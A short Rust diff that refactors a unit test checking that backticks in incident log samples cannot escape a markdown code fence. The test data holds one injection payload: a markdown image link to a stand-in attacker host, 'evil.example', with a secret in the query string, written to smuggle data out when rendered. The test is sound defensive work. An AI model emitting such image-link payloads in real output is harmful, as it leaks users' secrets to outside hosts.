@@ -200,9 +200,11 @@ mod tests {
 
     #[test]
     fn backticks_in_log_text_cannot_break_out_of_the_sample() {
-        let mut i = crate::store::IncidentRow::default();
-        i.samples = vec!["boom ```\n![x](https://evil.example/?q=secret)\n```".into()];
-        i.title = "t".into();
+        let i = crate::store::IncidentRow {
+            samples: vec!["boom ```\n![x](https://evil.example/?q=secret)\n```".into()],
+            title: "t".into(),
+            ..Default::default()
+        };
         let n = for_incident(&i, "", "f.md");
         let f = crate::sanitize::fence(&i.samples[0]);
         assert!(f.len() > 3);
